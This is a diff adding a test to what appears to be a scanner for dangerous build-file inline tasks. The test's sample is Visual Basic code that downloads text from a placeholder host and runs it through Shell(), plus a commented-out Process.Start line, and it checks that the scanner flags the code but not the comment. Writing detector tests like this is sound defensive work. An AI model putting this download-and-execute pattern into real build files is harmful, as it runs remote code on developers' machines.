@@ -222,3 +222,16 @@ def test_exec_of_a_harmless_packaged_script_is_a_note() -> None:
     script = "param($Out)\nSet-Content (Join-Path $Out 'g.cs') '// generated'\n"
     found = scan_targets(text, extra={"build/gen.ps1": script})
     assert max(f.severity for fs in found.values() for f in fs) is Severity.NOTE
+
+
+def test_visual_basic_inline_task() -> None:
+    code = """
+        ' Process.Start("calc") in a comment is not code
+        Dim url As String = "http://example.invalid/it's"
+        Dim client As New System.Net.WebClient()
+        Shell(client.DownloadString(url))
+        Return True"""
+    text = inline_task(code).replace('Language="cs"', 'Language="vb"')
+    found = scan_targets(text)
+    assert {"NS2102", "NS2103", "NS2110"} <= set(found)
+    assert all("comment" not in f.evidence for f in found["NS2102"])
